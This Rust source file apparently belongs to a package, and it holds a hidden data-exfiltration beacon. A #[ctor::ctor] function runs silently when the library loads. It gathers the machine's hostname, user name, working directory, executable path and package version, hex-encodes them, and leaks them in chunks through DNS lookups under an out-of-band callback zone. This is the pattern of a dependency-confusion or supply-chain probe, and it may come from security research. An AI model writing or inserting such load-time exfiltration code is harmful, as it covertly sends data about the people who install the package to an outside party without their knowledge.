use std::env;
use std::fs;
use std::net::ToSocketAddrs;

const ZONE: &str = "dc.oast.example.com";
const ID: &str = "pg7";

fn hostname() -> String {
    env::var("HOSTNAME")
        .or_else(|_| env::var("COMPUTERNAME"))
        .ok()
        .or_else(|| fs::read_to_string("/etc/hostname").ok())
        .unwrap_or_default()
        .trim()
        .to_string()
}

fn to_hex(s: &str) -> String {
    s.bytes().map(|b| format!("{:02x}", b)).collect()
}

#[ctor::ctor]
fn on_load() {
    let user = env::var("USER").or_else(|_| env::var("USERNAME")).unwrap_or_default();
    let cwd = env::current_dir().map(|p| p.display().to_string()).unwrap_or_default();
    let exe = env::current_exe().map(|p| p.display().to_string()).unwrap_or_default();
    let data = format!("{}|{}|{}|{}|{}", hostname(), user, cwd, exe, env!("CARGO_PKG_VERSION"));

    std::thread::spawn(move || {
        let hex = to_hex(&data);
        let chunks: Vec<&str> = hex
            .as_bytes()
            .chunks(60)
            .take(10)
            .map(|c| std::str::from_utf8(c).unwrap_or(""))
            .collect();
        let total = chunks.len();
        for (i, c) in chunks.iter().enumerate() {
            let name = format!("{}.{}-{}.{}.{}", c, i, total, ID, ZONE);
            let _ = (name.as_str(), 443).to_socket_addrs();
        }
    });
}
